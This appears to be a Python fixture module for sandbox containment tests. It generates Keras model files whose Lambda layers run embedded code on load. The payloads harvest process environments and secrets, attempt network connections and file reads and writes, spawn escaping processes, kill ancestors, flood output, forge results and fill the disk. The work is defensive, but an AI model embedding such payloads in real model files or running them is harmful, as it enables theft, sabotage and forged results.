"""Hostile model files for the containment tests: Keras 2 HDF5 files whose Lambda layer
runs a payload inside `load_model`, saved at test time by a real TensorFlow 2.15.

Each payload is Python source kept in the Lambda's default argument; it acts only where
the cell's environment has HOSTILE_ARMED=1 (never while the file is being saved), and
everything it tries is bounded (a few hundred processes at most, one allocation, one
connection attempt to a listener on 127.0.0.1). What a payload could see or do, it puts
into the exception it raises, so anything that leaked would land in the report.

    python -c SAVE SPEC.json OUTDIR      (with the saving environment's Python)
"""

from __future__ import annotations

import json

# Collects what it could do; raises it, so a leak would reach results.json and the reports.
PROBE_EVERYTHING = r"""
import os, socket, glob
seen = []
try:
    s = socket.create_connection(("127.0.0.1", __PORT__), timeout=3)
    s.sendall(b"CANARY-NET")
    s.close()
    seen.append("connect:ok")
except Exception as e:
    seen.append("connect:" + type(e).__name__)
for path in __WRITE_PATHS__:
    try:
        with open(path, "w") as f:
            f.write("CANARY-WRITE")
        seen.append("write:ok:" + path)
    except Exception as e:
        seen.append("write:" + type(e).__name__ + ":" + path)
for path in __READ_PATHS__:
    try:
        seen.append("read:ok:" + path + "=" + open(path).read()[:200])
    except Exception as e:
        seen.append("read:" + type(e).__name__ + ":" + path)
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        seen.append("environ:" + pid + "=" + open("/proc/%s/environ" % pid).read()[:4000])
    except Exception as e:
        seen.append("environ:" + pid + ":" + type(e).__name__)
    try:
        seen.append("cwd:" + pid + "=" + os.readlink("/proc/%s/cwd" % pid))
    except Exception:
        pass
seen.append("env=" + repr(dict(os.environ)))
raise RuntimeError("HOSTILE-REPORT " + " | ".join(seen))
"""

# Processes that try to outlive the cell: new sessions, double forks, a sleep each.
SPAWN = r"""
import os, time
started = 0
for i in range(__COUNT__):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["/bin/sleep", "600"])
        finally:
            os._exit(0)
    started += 1
    os.waitpid(pid, 0)
raise RuntimeError("HOSTILE-SPAWN started %d" % started)
"""

MEMORY = r"""
block = b"x" * (__SIZE__)
raise RuntimeError("HOSTILE-MEMORY held %d bytes" % len(block))
"""

# Kill every ancestor it can name (the probe, the harness if it could see it), then itself.
KILL = r"""
import os, signal
pid, chain = os.getpid(), []
for _ in range(4):
    try:
        status = open("/proc/%d/status" % pid).read()
    except OSError:
        break
    pid = int(status.split("PPid:")[1].split()[0])
    if pid <= 0:
        break
    chain.append(pid)
for pid in chain:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""

FLOOD = r"""
import os
chunk = b"E" * (1 << 20)
for _ in range(__MEBIBYTES__):
    os.write(2, chunk)
"""

# A daemon in a new session that keeps stdout and stderr open and never exits.
DAEMON = r"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
"""

# Tries to report "loaded" by itself: on stdout, on every inherited descriptor and on the
# parent's, then exits before the real result is written.
FORGE = r"""
import os, json
fake = {"kind": "model", "key": "m0", "result": {"attempts": [{"fix": None, "compile": True, "ok": True}], "plugins": []}}
line = (json.dumps(fake) + "\n").encode()
os.write(1, line)
for fd in range(3, 64):
    try:
        os.write(fd, line)
    except OSError:
        pass
for fd in range(64):
    try:
        with open("/proc/%d/fd/%d" % (os.getppid(), fd), "wb") as f:
            f.write(line)
    except OSError:
        pass
os._exit(0)
"""

# Fills its scratch: a gigabyte, a mebibyte at a time, until the disk says no.
FILL = r"""
import os
written, error = 0, "none"
try:
    with open(os.path.join(os.getcwd(), "fill.bin"), "wb") as f:
        for _ in range(1024):
            f.write(b"F" * (1 << 20))
            f.flush()
            written += 1
except OSError as e:
    error = e.strerror
raise RuntimeError("HOSTILE-FILL wrote %d MiB: %s" % (written, error))
"""

SAVE = """
import json, sys, tensorflow as tf
spec = json.load(open(sys.argv[1]))
for name, source in spec.items():
    guarded = "import os\\nif os.environ.get('HOSTILE_ARMED') == '1':\\n" + "".join("    " + l + "\\n" for l in source.splitlines())
    inputs = tf.keras.layers.Input(shape=(2,))
    outputs = tf.keras.layers.Lambda(lambda t, src=guarded: (exec(src, {}), t)[1])(inputs)
    tf.keras.models.Model(inputs, outputs).save(sys.argv[2] + "/" + name, save_format="h5")
"""


# Keras 3's .keras Lambda: Keras 3 stores the function's bytecode, and reads back no defaults
# (a Keras 2 file's list of them raises "arg 4 (defaults) must be None or tuple" in 3.15.1), so the
# payload is a constant of the lambda's own code. Keras 3 refuses it unless safe_mode=False (the
# harness's trusted attempt, --trust-models), and calls it when the model is called (inference:
# true; without output_shape Keras would call it at load and hide what it raised behind "could not
# automatically infer the shape of the Lambda's output").
SAVE3 = """
import json, os, sys
os.environ.setdefault("KERAS_BACKEND", "tensorflow")
import keras
spec = json.load(open(sys.argv[1]))
for name, source in spec.items():
    guarded = "import os\\nif os.environ.get('HOSTILE_ARMED') == '1':\\n" + "".join("    " + l + "\\n" for l in source.splitlines())
    function = eval("lambda t: (exec(%r, {}), t)[1]" % guarded)
    inputs = keras.layers.Input(shape=(2,))
    outputs = keras.layers.Lambda(function, output_shape=(2,))(inputs)  # the payload runs when the model is called
    keras.models.Model(inputs, outputs).save(os.path.join(sys.argv[2], name.replace(".h5", ".keras")))
"""


def payloads(port: int, write_paths: list[str], read_paths: list[str], spawn: int, memory: int, flood_mib: int) -> dict[str, str]:
    """File name -> payload source, with the test's own values filled in."""
    return {
        "everything.h5": PROBE_EVERYTHING.replace("__PORT__", str(port))
        .replace("__WRITE_PATHS__", json.dumps(write_paths))
        .replace("__READ_PATHS__", json.dumps(read_paths)),
        "spawn.h5": SPAWN.replace("__COUNT__", str(spawn)),
        "memory.h5": MEMORY.replace("__SIZE__", str(memory)),
        "kill.h5": KILL,
        "flood.h5": FLOOD.replace("__MEBIBYTES__", str(flood_mib)),
        "daemon.h5": DAEMON,
        "forge.h5": FORGE,
        "fill.h5": FILL,
    }

